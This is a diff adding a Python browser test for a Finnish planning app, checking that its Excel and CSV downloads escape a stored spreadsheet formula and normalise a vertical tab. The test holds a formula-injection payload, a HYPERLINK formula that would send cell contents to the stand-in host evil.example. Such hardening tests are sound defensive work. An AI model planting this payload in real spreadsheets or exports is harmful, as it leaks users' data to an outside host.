@@ -1,0 +1,55 @@
+"""Real downloads (#12 items 1, 2): Toimenpiteet's Excel and CSV of a measure with Word's vertical tab and a formula."""
+
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+from openpyxl import load_workbook
+from sqlalchemy import update
+
+from core.loader import load_plan
+from core.storage import Store
+from core.storage import measures as measures_table
+from tests.browser.conftest import running, wait_idle
+
+HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klikkaa")'
+
+
+@pytest.fixture(scope="module")
+def hostile_server(tmp_path_factory, browser):
+    """An app whose measure kymsote-I.1-1 has a vertical tab and a formula (saved by an older version)."""
+    url = f"sqlite:///{tmp_path_factory.mktemp('downloads') / 'app.db'}"
+    store = Store.open(url, load_plan())
+    with store.engine.begin() as conn:
+        conn.execute(update(measures_table).where(measures_table.c.measure_id == "kymsote-I.1-1")
+                     .values(toimenpide="Rivi\x0btoinen rivi", mittari=HOSTILE))
+    store.engine.dispose()
+    with running(url, {"KYMLAPSET_EDITOR_PASSCODE": ""}, browser) as server:
+        yield server
+
+
+def _download(page, label: str) -> bytes:
+    button = page.get_by_test_id("stDownloadButton").filter(has_text=label).get_by_role("button")
+    with page.expect_download(timeout=30000) as info:
+        button.click()
+    return open(info.value.path(), "rb").read()
+
+
+def test_measure_downloads_are_safe_and_complete(hostile_server, page):
+    page.goto(f"{hostile_server.url}/toimenpiteet?toimija=kymsote")
+    wait_idle(page)
+    ws = load_workbook(io.BytesIO(_download(page, "Lataa Excel"))).active
+    rows = {r[0].value: r for r in ws.iter_rows(min_row=2)}
+    header = [c.value for c in ws[1]]
+    row = rows["kymsote-I.1-1"]
+    assert row[header.index("toimenpide")].value == "Rivi\ntoinen rivi"
+    cell = row[header.index("mittari")]
+    assert (cell.value, cell.data_type) == ("'" + HOSTILE, "s")
+    wait_idle(page)
+    assert page.get_by_test_id("stAlertContentError").count() == 0
+    text = _download(page, "Lataa CSV").decode("utf-8-sig")
+    table = list(csv.reader(io.StringIO(text, newline="")))
+    found = next(r for r in table if r[0] == "kymsote-I.1-1")
+    assert "'" + HOSTILE in found
